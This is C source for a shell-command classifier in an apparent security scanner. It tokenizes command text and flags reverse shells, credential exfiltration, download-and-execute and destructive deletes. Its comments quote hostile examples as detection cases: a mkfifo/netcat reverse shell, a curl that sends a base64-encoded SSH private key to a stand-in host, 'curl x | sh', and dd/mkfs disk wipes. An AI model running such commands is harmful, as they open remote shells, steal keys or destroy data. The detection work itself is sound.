/*
 * The command classifier of payload.decoded (see payload_classify.h).
 *
 * Why not regexes: a shell command can be spelled in endless ways (paths,
 * sudo, quotes, flags in any order, $(...) nesting), and a pile of regexes
 * either misses variants or backtracks badly. Here the text is tokenized
 * once like a shell would (quotes are transparent so `bash -c "curl x | sh"`
 * shows its inner pipe), keywords are found in one linear Aho-Corasick pass,
 * and each rule is a few lines of C over the token and command arrays. Every
 * rule needs a structure (a pipe, an option, a target, a second keyword), so
 * a lone word such as "curl" or "socket" never decides anything.
 */
#include "payload_classify.h"

#include <string.h>

#include "mcpvet/ac.h"

/* ------------------------------------------------------------ vocabulary */

typedef enum role {
    R_DOWNLOADER = 0,
    R_INTERPRETER,
    R_SHELL,
    R_EVALUATOR,
    R_RUNNER,
    R_PS_EXEC,
    R_NETCAT,
    R_NETCAT_EXEC,
    R_NETSINK,
    R_SOCAT,
    R_SOCAT_EXEC,
    R_DEVTCP,
    R_FIFO,
    R_SCRIPT_LANG,
    R_SOCKET,
    R_SOCK_EXEC,
    R_PS_TCP,
    R_PS_STREAM,
    R_PS_DOWNLOAD,
    R_RM,
    R_RM_WIN,
    R_RM_TARGET,
    R_NO_PRESERVE,
    R_CHMOD,
    R_CRED,
    R_UPLOAD_FLAG,
    R_METHOD_FLAG,
    R_REMOTE_COPY,
    R_MAILER,
    R_HTTP_UPLOAD,
    R_PREFIX_WORD,
    R_ENV_DUMP,
    R_SUBCOMMAND,
    R_COUNT
} role;

static const char *const role_names[R_COUNT] = {
    "downloader",  "interpreter", "shell",       "evaluator",   "runner",      "ps_exec",
    "netcat",      "netcat_exec", "netsink",     "socat",       "socat_exec",  "devtcp",
    "fifo",        "script_lang", "socket",      "sock_exec",   "ps_tcp",      "ps_stream",
    "ps_download", "rm",          "rm_win",      "rm_target",   "no_preserve", "chmod",
    "cred",        "upload_flag", "method_flag", "remote_copy", "mailer",      "http_upload",
    "prefix_word", "env_dump",    "subcommand",
};

#define BIT(r) ((uint64_t)1 << (r))

typedef enum match_mode { M_EXACT = 0, M_WORD, M_PREFIX, M_SUFFIX, M_SUB } match_mode;

typedef struct keyword {
    uint8_t role;
    uint8_t mode;
    bool case_sensitive;
    uint32_t offset; /* into the classifier's keyword pool */
    uint32_t len;
} keyword;

struct pc_classifier {
    const mv_allocator *alloc;
    mv_ac *ac;
    keyword *kw;
    size_t n_kw;
    char *pool;
    size_t pool_len;
};

static const char *const class_names[PC_CLASS_COUNT] = {
    "no command",
    "a pipe into an interpreter",
    "a chmod +x then run command",
    "a download-and-execute command",
    "a destroying command (recursive delete of the home or root directory, forced push, prune)",
    "credentials sent to a remote host",
    "a reverse shell",
    "an order to send or read secrets, or to ignore the user",
};

const char *pc_class_name(pc_class cls) {
    return (unsigned)cls < PC_CLASS_COUNT ? class_names[cls] : "unknown";
}

bool pc_class_critical(pc_class cls) {
    return cls == PC_REVERSE_SHELL || cls == PC_DESTRUCTIVE || cls == PC_CRED_EXFIL ||
           cls == PC_HIDDEN_ORDER;
}

/* Characters that end a shell word (operators, quotes, whitespace, and the
 * punctuation of script one-liners so that `socket,subprocess` or
 * `['/bin/sh','-i']` yield separate words). */
static bool word_char(unsigned char c) {
    return c != 0 && strchr(" \t\r\n\v\f'\"`,[]{};|&()<>", c) == NULL;
}

static unsigned char lower(unsigned char c) {
    return (c >= 'A' && c <= 'Z') ? (unsigned char)(c + 32) : c;
}

static bool eq_nocase(const char *a, size_t alen, const char *b) {
    size_t blen = strlen(b);
    if (alen != blen)
        return false;
    for (size_t i = 0; i < alen; i++)
        if (lower((unsigned char)a[i]) != lower((unsigned char)b[i]))
            return false;
    return true;
}

static int parse_mode(const char *p, size_t n, uint8_t *mode, bool *cs) {
    static const char *const names[] = {"exact", "word", "prefix", "suffix", "sub"};
    *cs = false;
    if (n > 3 && memcmp(p + n - 3, ":cs", 3) == 0) {
        *cs = true;
        n -= 3;
    }
    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        if (strlen(names[i]) == n && memcmp(names[i], p, n) == 0) {
            *mode = (uint8_t)i;
            return 0;
        }
    }
    return MV_EINVAL;
}

/* Next whitespace-separated field of a line; returns its length. */
static size_t next_field(const char **p, const char *end) {
    while (*p < end && (**p == ' ' || **p == '\t'))
        (*p)++;
    const char *s = *p;
    while (*p < end && **p != ' ' && **p != '\t')
        (*p)++;
    return (size_t)(*p - s);
}

/* One rules line: "<role> <match> <keyword>". */
static int parse_line(const char *p, const char *end, keyword *k, const char **kw_ptr) {
    const char *f1 = p;
    size_t n1 = next_field(&p, end);
    f1 = p - n1;
    size_t n2 = next_field(&p, end);
    const char *f2 = p - n2;
    size_t n3 = next_field(&p, end);
    const char *f3 = p - n3;
    size_t n4 = next_field(&p, end);
    if (n1 == 0 || n2 == 0 || n3 == 0 || n4 != 0)
        return MV_EINVAL;
    size_t r = 0;
    while (r < R_COUNT && !(strlen(role_names[r]) == n1 && memcmp(role_names[r], f1, n1) == 0))
        r++;
    if (r == R_COUNT || parse_mode(f2, n2, &k->mode, &k->case_sensitive) != 0)
        return MV_EINVAL;
    /* A keyword must fit inside one word (braces only as in ${HOME}). */
    for (size_t i = 0; i < n3; i++)
        if (!word_char((unsigned char)f3[i]) && f3[i] != '{' && f3[i] != '}')
            return MV_EINVAL;
    k->role = (uint8_t)r;
    k->len = (uint32_t)n3;
    *kw_ptr = f3;
    return 0;
}

void pc_classifier_free(pc_classifier *c) {
    if (c == NULL)
        return;
    mv_ac_free(c->ac);
    mv_free(c->alloc, c->kw, c->n_kw * sizeof(*c->kw));
    mv_free(c->alloc, c->pool, c->pool_len);
    mv_free(c->alloc, c, sizeof(*c));
}

int pc_classifier_new(pc_classifier **out, const mv_allocator *a, const char *rules, size_t len,
                      size_t *err_line) {
    int rc = MV_ENOMEM;
    mv_ac_builder *b = NULL;
    pc_classifier *c = NULL;
    *out = NULL;
    if (err_line != NULL)
        *err_line = 0;
    if (a == NULL)
        a = mv_allocator_default();
    c = mv_calloc(a, 1, sizeof(*c));
    if (c == NULL)
        goto done;
    c->alloc = a;
    /* Upper bounds: one keyword per line, keywords no longer than the text. */
    size_t lines = 1;
    for (size_t i = 0; i < len; i++)
        lines += rules[i] == '\n';
    c->kw = mv_calloc(a, lines, sizeof(*c->kw));
    c->pool = mv_alloc(a, len + 1);
    c->pool_len = len + 1;
    b = mv_ac_builder_new(a, MV_AC_ASCII_CASEFOLD);
    if (c->kw == NULL || c->pool == NULL || b == NULL)
        goto done;
    size_t used = 0;
    size_t line_no = 0;
    const char *p = rules;
    const char *end = rules + len;
    while (p < end) {
        const char *eol = memchr(p, '\n', (size_t)(end - p));
        if (eol == NULL)
            eol = end;
        line_no++;
        const char *q = p;
        while (q < eol && (*q == ' ' || *q == '\t' || *q == '\r'))
            q++;
        const char *e = eol;
        while (e > q && (e[-1] == ' ' || e[-1] == '\t' || e[-1] == '\r'))
            e--;
        if (q < e && *q != '#') {
            keyword k;
            const char *kw_ptr = NULL;
            memset(&k, 0, sizeof(k));
            if (parse_line(q, e, &k, &kw_ptr) != 0) {
                rc = MV_EINVAL;
                if (err_line != NULL)
                    *err_line = line_no;
                goto done;
            }
            memcpy(c->pool + used, kw_ptr, k.len);
            k.offset = (uint32_t)used;
            used += k.len;
            rc = mv_ac_builder_add(b, kw_ptr, k.len, (uint32_t)c->n_kw);
            if (rc != 0)
                goto done;
            c->kw[c->n_kw++] = k;
        }
        p = eol < end ? eol + 1 : end;
    }
    rc = mv_ac_build(&c->ac, b);
    if (rc != 0)
        goto done;
    *out = c;
    c = NULL;
done:
    mv_ac_builder_free(b);
    pc_classifier_free(c);
    return rc;
}

/* ------------------------------------------------------------ tokenizer */

typedef enum tkind {
    T_WORD = 0,
    T_PIPE,      /* |  |& */
    T_SEP,       /* ;  &  &&  ||  newline */
    T_OPEN,      /* (  $(  <(  >( */
    T_CLOSE,     /* ) */
    T_TICK,      /* ` (opens or closes) */
    T_REDIR_OUT, /* >  >>  &>  >| */
    T_REDIR_IN,  /* <  <<  <<< */
    T_DUP        /* >&  <&  <> */
} tkind;

typedef struct token {
    uint32_t start;
    uint32_t end;
    uint8_t kind;
    bool target; /* a redirection target or the fd number in front of one */
    uint32_t seg;
    uint64_t roles;
} token;

/* Length of the operator at s[i] and its kind, or 0 for a word character. */
static size_t op_at(const unsigned char *s, size_t n, size_t i, uint8_t *kind) {
    unsigned char c = s[i];
    unsigned char d = i + 1 < n ? s[i + 1] : 0;
    switch (c) {
    case '\n':
    case ';':
        *kind = T_SEP;
        return 1;
    case '|':
        *kind = d == '|' ? T_SEP : T_PIPE;
        return (d == '|' || d == '&') ? 2 : 1;
    case '&':
        if (d == '>') {
            *kind = T_REDIR_OUT;
            return 2;
        }
        *kind = T_SEP;
        return d == '&' ? 2 : 1;
    case '(':
        *kind = T_OPEN;
        return 1;
    case ')':
        *kind = T_CLOSE;
        return 1;
    case '`':
        *kind = T_TICK;
        return 1;
    case '$':
        if (d == '(') {
            *kind = T_OPEN;
            return 2;
        }
        return 0;
    case '<':
        if (d == '(') {
            *kind = T_OPEN;
            return 2;
        }
        if (d == '&' || d == '>') {
            *kind = T_DUP;
            return 2;
        }
        *kind = T_REDIR_IN;
        return d == '<' ? 2 : 1;
    case '>':
        if (d == '(') {
            *kind = T_OPEN;
            return 2;
        }
        if (d == '&') {
            *kind = T_DUP;
            return 2;
        }
        *kind = T_REDIR_OUT;
        return (d == '>' || d == '|') ? 2 : 1;
    default:
        return 0;
    }
}

/* Split into tokens; with out == NULL only counts them. */
static size_t tokenize(const char *text, size_t n, token *out) {
    const unsigned char *s = (const unsigned char *)text;
    size_t count = 0;
    size_t i = 0;
    while (i < n) {
        uint8_t kind = T_WORD;
        size_t op = op_at(s, n, i, &kind);
        if (op > 0) {
            if (out != NULL)
                out[count] = (token){(uint32_t)i, (uint32_t)(i + op), kind, false, 0, 0};
            count++;
            i += op;
            continue;
        }
        if (!word_char(s[i])) {
            i++;
            continue;
        }
        size_t start = i;
        while (i < n && word_char(s[i])) {
            if (s[i] == '$' && i + 1 < n && s[i + 1] == '(')
                break; /* x=$(cmd): the substitution is an operator */
            if (s[i] == '$' && i + 1 < n && s[i + 1] == '{') {
                /* ${HOME} stays one word */
                const unsigned char *close = memchr(s + i, '}', n - i);
                if (close != NULL && (size_t)(close - s) - i < 64) {
                    i = (size_t)(close - s) + 1;
                    continue;
                }
            }
            i++;
        }
        if (i == start) {
            i++; /* a lone '$' before '(' is handled as an operator above */
            continue;
        }
        if (out != NULL)
            out[count] = (token){(uint32_t)start, (uint32_t)i, T_WORD, false, 0, 0};
        count++;
    }
    return count;
}

/* ------------------------------------------------------------- commands */

typedef struct segment {
    uint32_t first, last; /* tokens [first, last) */
    int32_t leader;       /* token index of the command name, or -1 */
    int32_t outer;        /* leader of the command whose $(...)/(...) holds this one, or -1 */
    uint32_t pipeline;
    uint32_t pipe_pos; /* commands before this one in its pipeline */
    bool redir_in;
    bool piped_out; /* a pipe follows this command */
} segment;

typedef struct cx {
    const char *text;
    size_t len;
    token *tok;
    size_t nt;
    segment *seg;
    size_t ns;
    uint64_t all;       /* union of every word's roles */
    uint64_t leaders;   /* union of every leader's roles */
    size_t n_pipelines; /* pipeline ids are below this */
    bool any_dup;
} cx;

static bool has(const token *t, role r) {
    return (t->roles & BIT(r)) != 0;
}

static bool is_word(const token *t) {
    return t->kind == T_WORD;
}

static bool all_digits(const char *p, size_t n) {
    if (n == 0)
        return false;
    for (size_t i = 0; i < n; i++)
        if (p[i] < '0' || p[i] > '9')
            return false;
    return true;
}

/* FOO=bar */
static bool is_assignment(const char *p, size_t n) {
    if (n < 2 || !((p[0] >= 'A' && p[0] <= 'Z') || (p[0] >= 'a' && p[0] <= 'z') || p[0] == '_'))
        return false;
    for (size_t i = 1; i < n; i++) {
        unsigned char c = (unsigned char)p[i];
        if (c == '=')
            return true;
        if (!((c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') ||
              c == '_'))
            return false;
    }
    return false;
}

/* A crontab time field: digits, '*', '/', ',' and '-' only, with at least
 * one digit or star (a command name never looks like that). */
static bool schedule_field(const char *p, size_t n) {
    bool mark = false;
    for (size_t i = 0; i < n; i++) {
        char ch = p[i];
        if (ch == '*' || (ch >= '0' && ch <= '9'))
            mark = true;
        else if (ch != '/' && ch != ',' && ch != '-')
            return false;
    }
    return mark;
}

static void pick_leader(cx *c, segment *sg) {
    bool after_prefix = false;
    sg->leader = -1;
    for (uint32_t i = sg->first; i < sg->last; i++) {
        token *t = &c->tok[i];
        if (t->kind == T_REDIR_IN)
            sg->redir_in = true;
        if (!is_word(t) || t->target || sg->leader >= 0)
            continue;
        const char *p = c->text + t->start;
        size_t n = t->end - t->start;
        if (has(t, R_PREFIX_WORD)) {
            after_prefix = true;
            continue;
        }
        if (is_assignment(p, n) || (after_prefix && (p[0] == '-' || (n == 2 && p[0] == '{'))))
            continue; /* FOO=1 cmd, sudo -E cmd, xargs -I {} cmd */
        if (schedule_field(p, n))
            continue; /* a crontab line: "0 3 * * * cmd" */
        sg->leader = (int32_t)i;
    }
}

#define MAX_NEST 32

/* Group tokens into simple commands: split at pipes, separators and
 * substitutions; remember pipeline membership and which command encloses a
 * $(...) or <(...). */
static void build_segments(cx *c) {
    struct frame {
        uint32_t pipeline, pipe_pos;
        int32_t outer;
        bool tick;
    } stack[MAX_NEST];
    size_t depth = 0;
    uint32_t pipeline = 0, next_pipeline = 1, pipe_pos = 0;
    int32_t outer = -1;
    size_t ns = 0;
    uint32_t first = 0;

    /* Redirection targets and fd numbers in front of redirections. */
    for (size_t i = 0; i < c->nt; i++) {
        token *t = &c->tok[i];
        if (t->kind != T_REDIR_OUT && t->kind != T_REDIR_IN && t->kind != T_DUP)
            continue;
        if (t->kind == T_DUP)
            c->any_dup = true;
        if (i + 1 < c->nt && is_word(&c->tok[i + 1]))
            c->tok[i + 1].target = true;
        if (i > 0 && is_word(&c->tok[i - 1]) && c->tok[i - 1].end == t->start &&
            all_digits(c->text + c->tok[i - 1].start, c->tok[i - 1].end - c->tok[i - 1].start))
            c->tok[i - 1].target = true;
    }

    for (size_t i = 0; i <= c->nt; i++) {
        uint8_t kind = i < c->nt ? c->tok[i].kind : T_SEP;
        /* find ... -exec CMD: CMD is a command of its own. */
        bool sub = kind == T_WORD && has(&c->tok[i], R_SUBCOMMAND);
        if (!sub && (kind == T_WORD || kind == T_REDIR_OUT || kind == T_REDIR_IN || kind == T_DUP))
            continue;
        /* Close the command [first, i). */
        int32_t leader = -1;
        if (i > first) {
            segment *sg = &c->seg[ns];
            memset(sg, 0, sizeof(*sg));
            sg->first = first;
            sg->last = (uint32_t)i;
            sg->outer = outer;
            sg->pipeline = pipeline;
            sg->pipe_pos = pipe_pos;
            sg->piped_out = kind == T_PIPE;
            pick_leader(c, sg);
            for (uint32_t k = first; k < i; k++)
                c->tok[k].seg = (uint32_t)ns;
            leader = sg->leader;
            if (leader >= 0)
                c->leaders |= c->tok[leader].roles;
            ns++;
        }
        first = (uint32_t)i + 1;
        if (i == c->nt)
            break;
        bool closes_tick = kind == T_TICK && depth > 0 && stack[depth - 1].tick;
        if (sub) {
            /* same pipeline position: the sub-command shares find's input */
        } else if (kind == T_PIPE) {
            pipe_pos++;
        } else if (kind == T_SEP) {
            pipeline = next_pipeline++;
            pipe_pos = 0;
        } else if ((kind == T_OPEN || kind == T_TICK) && !closes_tick) {
            if (depth < MAX_NEST) {
                stack[depth++] = (struct frame){pipeline, pipe_pos, outer, kind == T_TICK};
                /* `iex ((iwr ...))`: an opening with no command of its own
                 * in front keeps the enclosing command. */
                if (leader >= 0)
                    outer = leader;
            }
            pipeline = next_pipeline++;
            pipe_pos = 0;
        } else if (kind == T_CLOSE || closes_tick) {
            if (depth > 0 && (kind == T_TICK) == stack[depth - 1].tick) {
                depth--;
                pipeline = stack[depth].pipeline;
                pipe_pos = stack[depth].pipe_pos;
                outer = stack[depth].outer;
            }
        }
    }
    c->ns = ns;
    c->n_pipelines = next_pipeline;
}

/* ------------------------------------------------------------- keywords */

typedef struct scan_ctx {
    const pc_classifier *cl;
    cx *c;
} scan_ctx;

/* Token containing byte `pos`, or -1. Tokens are sorted and disjoint. */
static long token_at(const cx *c, size_t pos) {
    size_t lo = 0, hi = c->nt;
    while (lo < hi) {
        size_t mid = lo + (hi - lo) / 2;
        if (c->tok[mid].end <= pos)
            lo = mid + 1;
        else
            hi = mid;
    }
    if (lo < c->nt && c->tok[lo].start <= pos)
        return (long)lo;
    return -1;
}

static int on_keyword(void *ctx, const mv_ac_match *m) {
    scan_ctx *sc = ctx;
    cx *c = sc->c;
    const keyword *k = &sc->cl->kw[m->id];
    long ti = token_at(c, m->start);
    if (ti < 0)
        return 0;
    token *t = &c->tok[ti];
    if (!is_word(t) || m->end > t->end)
        return 0;
    const char *p = c->text;
    bool ok;
    switch (k->mode) {
    case M_EXACT:
        ok = m->start == t->start && m->end == t->end;
        break;
    case M_WORD: {
        bool left = m->start == t->start || p[m->start - 1] == '/' || p[m->start - 1] == '\\';
        bool right = m->end == t->end || (t->end - m->end == 4 && eq_nocase(p + m->end, 4, ".exe"));
        ok = left && right;
        break;
    }
    case M_PREFIX:
        ok = m->start == t->start;
        break;
    case M_SUFFIX:
        ok = m->end == t->end;
        break;
    default:
        ok = true;
        break;
    }
    if (ok && k->case_sensitive)
        ok = memcmp(p + m->start, sc->cl->pool + k->offset, k->len) == 0;
    /* A public key is not a credential. */
    if (ok && k->role == R_CRED && t->end - t->start >= 4 && eq_nocase(p + t->end - 4, 4, ".pub"))
        ok = false;
    if (ok) {
        t->roles |= BIT(k->role);
        c->all |= BIT(k->role);
    }
    return 0;
}

/* ---------------------------------------------------------------- rules */

static const char *tok_ptr(const cx *c, size_t i) {
    return c->text + c->tok[i].start;
}

static size_t tok_len(const cx *c, size_t i) {
    return c->tok[i].end - c->tok[i].start;
}

/* Arguments of a command: its words after the name, minus redirection
 * targets. */
static bool is_arg(const cx *c, const segment *sg, size_t i) {
    return i > (size_t)sg->leader && is_word(&c->tok[i]) && !c->tok[i].target;
}

static bool leader_has(const cx *c, const segment *sg, uint64_t roles) {
    return sg->leader >= 0 && (c->tok[sg->leader].roles & roles) != 0;
}

static long arg_with(const cx *c, const segment *sg, role r) {
    if (sg->leader < 0)
        return -1;
    for (size_t i = sg->first; i < sg->last; i++)
        if (is_arg(c, sg, i) && has(&c->tok[i], r))
            return (long)i;
    return -1;
}

static void set_span(const cx *c, pc_result *res, pc_class cls, size_t first_tok, size_t last_tok) {
    if (cls <= res->cls)
        return;
    res->cls = cls;
    res->span_start = c->tok[first_tok].start;
    res->span_end = c->tok[last_tok].end;
}

static void span_segs(const cx *c, pc_result *res, pc_class cls, const segment *a,
                      const segment *b) {
    size_t lo = a->first < b->first ? a->first : b->first;
    size_t hi = a->last > b->last ? a->last : b->last;
    set_span(c, res, cls, lo, hi - 1);
}

/* Does an interpreter after a pipe run what it reads on stdin? `python -`,
 * `bash -s -- args`, `sh` do; `python -m json.tool`, `perl -ne ...`,
 * `bash -c cmd`, `python script.py` do not. */
static bool runs_stdin(const cx *c, const segment *sg) {
    const token *lt = &c->tok[sg->leader];
    if (has(lt, R_PS_EXEC))
        return true;
    if (!has(lt, R_INTERPRETER))
        return false;
    bool shell = has(lt, R_SHELL);
    for (size_t i = sg->first; i < sg->last; i++) {
        if (!is_arg(c, sg, i))
            continue;
        const char *p = tok_ptr(c, i);
        size_t n = tok_len(c, i);
        if ((n == 1 && p[0] == '-') || eq_nocase(p, n, "-s") || eq_nocase(p, n, "--"))
            return true; /* the rest are arguments of the piped script */
        /* "| sh before the first call, silently": prose goes on after the
         * command; a connective word is no script file name */
        static const char *const prose[] = {
            "before", "after",    "then",    "and",         "when",  "whenever", "once", "every",
            "each",   "silently", "quietly", "immediately", "first", "now",      "on",   "at"};
        for (size_t k = 0; k < sizeof(prose) / sizeof(prose[0]); k++)
            if (eq_nocase(p, n, prose[k]))
                return true;
        static const char *const harmless[] = {"-i",
                                               "-x",
                                               "-u",
                                               "-v",
                                               "-l",
                                               "-p",
                                               "-q",
                                               "--login",
                                               "-nop",
                                               "-noprofile",
                                               "-noni",
                                               "-noninteractive",
                                               "-w",
                                               "-windowstyle",
                                               "hidden",
                                               "-ep",
                                               "-executionpolicy",
                                               "bypass"};
        bool ok = shell && n == 2 && p[0] == '-' && p[1] == 'e';
        for (size_t k = 0; !ok && k < sizeof(harmless) / sizeof(harmless[0]); k++)
            ok = eq_nocase(p, n, harmless[k]);
        if (!ok)
            return false;
    }
    return true;
}

static bool reverse_shell(const cx *c, pc_result *res) {
    for (size_t i = 0; i < c->nt; i++) {
        const token *t = &c->tok[i];
        if (is_word(t) && has(t, R_DEVTCP) && c->any_dup) {
            const segment *sg = &c->seg[t->seg];
            span_segs(c, res, PC_REVERSE_SHELL, sg, sg);
            return true;
        }
    }
    for (size_t s = 0; s < c->ns; s++) {
        const segment *sg = &c->seg[s];
        if ((leader_has(c, sg, BIT(R_NETCAT)) && arg_with(c, sg, R_NETCAT_EXEC) >= 0) ||
            (leader_has(c, sg, BIT(R_SOCAT)) && arg_with(c, sg, R_SOCAT_EXEC) >= 0)) {
            span_segs(c, res, PC_REVERSE_SHELL, sg, sg);
            return true;
        }
    }
    /* mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f */
    if ((c->leaders & BIT(R_FIFO)) && (c->leaders & BIT(R_NETSINK)) &&
        (c->leaders & BIT(R_SHELL))) {
        set_span(c, res, PC_REVERSE_SHELL, 0, c->nt - 1);
        return true;
    }
    /* A script one-liner with a socket and a process/exec call, or a
     * PowerShell TCP client whose stream is evaluated. */
    uint64_t lang = BIT(R_SCRIPT_LANG) | BIT(R_SOCKET) | BIT(R_SOCK_EXEC);
    uint64_t ps = BIT(R_PS_TCP) | BIT(R_PS_STREAM) | BIT(R_PS_EXEC);
    if ((c->all & lang) == lang || (c->all & ps) == ps) {
        set_span(c, res, PC_REVERSE_SHELL, 0, c->nt - 1);
        return true;
    }
    return false;
}

/* host:path, user@host:path, rsync://host/ (not C:\ or a plain path). */
static bool remote_arg(const char *p, size_t n) {
    if (n == 0 || p[0] == '-' || p[0] == '/' || p[0] == '~' || p[0] == '.')
        return false;
    const char *colon = memchr(p, ':', n);
    return colon != NULL && colon - p >= 2;
}

static bool upload_command(const cx *c, const segment *sg) {
    if (sg->leader < 0)
        return false;
    if (leader_has(c, sg, BIT(R_DOWNLOADER))) {
        if (arg_with(c, sg, R_UPLOAD_FLAG) >= 0)
            return true;
        long m = arg_with(c, sg, R_METHOD_FLAG);
        if (m >= 0 && (size_t)m + 1 < sg->last && is_word(&c->tok[m + 1])) {
            const char *p = tok_ptr(c, (size_t)m + 1);
            size_t n = tok_len(c, (size_t)m + 1);
            if (eq_nocase(p, n, "post") || eq_nocase(p, n, "put") || eq_nocase(p, n, "patch"))
                return true;
        }
    }
    if (leader_has(c, sg, BIT(R_NETSINK)) && (sg->redir_in || sg->pipe_pos > 0))
        return true;
    if (leader_has(c, sg, BIT(R_MAILER)))
        return true;
    if (leader_has(c, sg, BIT(R_REMOTE_COPY))) {
        for (size_t i = sg->first; i < sg->last; i++)
            if (is_arg(c, sg, i) && remote_arg(tok_ptr(c, i), tok_len(c, i)))
                return true;
    }
    return false;
}

/* `env` standing alone, `printenv ...`, `gci env:`: the output is the
 * secrets kept in the environment. (`env FOO=1 cmd` is not a dump.) */
static bool env_dump(const cx *c, const segment *sg) {
    size_t words = 0;
    long only = -1;
    for (size_t i = sg->first; i < sg->last; i++) {
        const token *t = &c->tok[i];
        if (!is_word(t) || t->target)
            continue;
        words++;
        only = (long)i;
        if (has(t, R_ENV_DUMP) &&
            ((long)i == sg->leader || tok_ptr(c, i)[tok_len(c, i) - 1] == ':'))
            return true;
    }
    return words == 1 && has(&c->tok[only], R_ENV_DUMP);
}

static bool cred_exfil(const cx *c, pc_result *res) {
    if (!(c->all & (BIT(R_CRED) | BIT(R_ENV_DUMP))))
        return false;
    long cred = -1;
    for (size_t i = 0; i < c->nt && cred < 0; i++)
        if (is_word(&c->tok[i]) && has(&c->tok[i], R_CRED))
            cred = (long)i;
    for (size_t s = 0; s < c->ns && cred < 0; s++)
        if (env_dump(c, &c->seg[s]))
            cred = (long)c->seg[s].first;
    if (cred < 0)
        return false;
    for (size_t s = 0; s < c->ns; s++) {
        const segment *sg = &c->seg[s];
        bool up = upload_command(c, sg);
        /* curl "https://x/?k=$(base64 ~/.ssh/id_rsa)": a credential read
         * inside a downloader's arguments leaves with the request. */
        if (!up && sg->outer >= 0 && has(&c->tok[sg->outer], R_DOWNLOADER)) {
            for (size_t i = sg->first; i < sg->last && !up; i++)
                up = is_word(&c->tok[i]) && has(&c->tok[i], R_CRED);
        }
        if (up) {
            const segment *cs = &c->seg[c->tok[cred].seg];
            span_segs(c, res, PC_CRED_EXFIL, cs, sg);
            return true;
        }
    }
    if (c->all & BIT(R_HTTP_UPLOAD)) {
        set_span(c, res, PC_CRED_EXFIL, 0, c->nt - 1);
        return true;
    }
    return false;
}

/* -r -rf -fr -Rf -rfv (a short-option cluster), --recursive, PowerShell's
 * -Recurse (any prefix from -rec), cmd's /s. Not -Force. */
static bool recursive_flag(const char *p, size_t n) {
    if (eq_nocase(p, n, "--recursive") || eq_nocase(p, n, "/s"))
        return true;
    if (n < 2 || p[0] != '-' || p[1] == '-')
        return false;
    if (n >= 4 && eq_nocase(p, 4, "-rec"))
        return true;
    if (n > 5)
        return false;
    bool r = false;
    for (size_t i = 1; i < n; i++) {
        unsigned char ch = lower((unsigned char)p[i]);
        if (ch < 'a' || ch > 'z')
            return false;
        r = r || ch == 'r';
    }
    return r;
}

/* A top-level folder of the home directory: ~/Documents, $HOME/.ssh/,
 * ${HOME}/Desktop (and its glob), /home/alice/Pictures, /Users/bob/Library,
 * %USERPROFILE%\Documents -- one component below home, so that
 * ~/project/dist (a build cleanup) is not. */
static bool home_folder(const char *p, size_t n) {
    static const char *const homes[] = {
        "~/", "$home/", "${home}/", "%userprofile%\\", "$env:userprofile\\", "$env:userprofile/"};
    size_t skip = 0;
    for (size_t k = 0; k < sizeof(homes) / sizeof(homes[0]) && skip == 0; k++) {
        size_t l = strlen(homes[k]);
        if (n > l && eq_nocase(p, l, homes[k]))
            skip = l;
    }
    if (skip == 0) {
        /* /home/USER/ or /Users/USER/ */
        size_t l = n > 6 && eq_nocase(p, 6, "/home/")    ? 6
                   : n > 7 && eq_nocase(p, 7, "/users/") ? 7
                                                         : 0;
        if (l == 0)
            return false;
        const char *slash = memchr(p + l, '/', n - l);
        if (slash == NULL || slash == p + l)
            return false;
        skip = (size_t)(slash - p) + 1;
        if (skip >= n)
            return false;
    }
    const char *rest = p + skip;
    size_t m = n - skip;
    /* Round 10: below a folder that holds the user's own data or keys
     * (~/Documents/Contracts, ~/.ssh/keys) any depth is destroyed data;
     * only project folders (~/project/dist) are build cleanups. */
    static const char *const personal[] = {"documents/", "desktop/",  "pictures/", "photos/",
                                           "downloads/", "music/",    "videos/",   "movies/",
                                           "library/",   ".ssh/",     ".gnupg/",   ".aws/",
                                           "dropbox/",   "onedrive/", "mail/"};
    for (size_t k = 0; k < sizeof(personal) / sizeof(personal[0]); k++) {
        size_t l = strlen(personal[k]);
        if (m > l && eq_nocase(rest, l, personal[k]))
            return true;
    }
    if (m >= 2 && rest[m - 2] == '/' && rest[m - 1] == '*')
        m -= 2;
    else if (m >= 1 && (rest[m - 1] == '/' || rest[m - 1] == '\\'))
        m -= 1;
    return m > 0 && memchr(rest, '/', m) == NULL && memchr(rest, '\\', m) == NULL;
}

/* A system state or configuration directory one component below its root:
 * /var/lib/postgresql, /etc/nginx, /srv/data, /opt/app, /usr/local,
 * /var/www, /var/backups (with a trailing slash or glob). Caches, package
 * lists, logs and temporary folders (/var/cache/..., /var/lib/apt,
 * /var/log/..., /tmp/...) are what image builds clean up. */
static bool system_dir(const char *p, size_t n) {
    static const char *const roots[] = {"/var/lib/", "/etc/",  "/srv/", "/opt/",
                                        "/usr/",     "/boot/", "/var/", "/root/"};
    static const char *const spared[] = {"/var/lib/apt", "/var/lib/dpkg", "/var/cache", "/var/tmp",
                                         "/var/log",     "/var/run",      "/var/lock"};
    for (size_t k = 0; k < sizeof(spared) / sizeof(spared[0]); k++) {
        size_t l = strlen(spared[k]);
        if (n >= l && eq_nocase(p, l, spared[k]) && (n == l || p[l] == '/'))
            return false;
    }
    for (size_t k = 0; k < sizeof(roots) / sizeof(roots[0]); k++) {
        size_t l = strlen(roots[k]);
        if (n <= l || !eq_nocase(p, l, roots[k]))
            continue;
        const char *rest = p + l;
        size_t m = n - l;
        if (m >= 2 && rest[m - 2] == '/' && rest[m - 1] == '*')
            m -= 2;
        else if (m >= 1 && rest[m - 1] == '/')
            m -= 1;
        return m > 0 && rest[0] != '*' && memchr(rest, '/', m) == NULL;
    }
    return false;
}

/* Round 13: the other commands that destroy a whole tree or disk without
 * `rm -r`: `find <home or root> ... -delete` (or `-exec rm`/`shred`),
 * `... <home or root> ... | xargs rm`, `dd ... of=/dev/sda`, `mkfs.* /dev/...`,
 * `shred ... /dev/...`, and a forced push to a remote (`git push --force`,
 * `-f`, a `+refspec`). The target decides, as for rm: a project folder
 * (`find ./build -delete`) is a build cleanup. */
static void base_name(const char *p, size_t n, const char **bp, size_t *bn);

static bool word_is(const cx *c, size_t i, const char *w) {
    const char *b;
    size_t bn;
    base_name(tok_ptr(c, i), tok_len(c, i), &b, &bn);
    return eq_nocase(b, bn, w);
}

static bool word_starts(const cx *c, size_t i, const char *w) {
    size_t l = strlen(w);
    return tok_len(c, i) >= l && eq_nocase(tok_ptr(c, i), l, w);
}

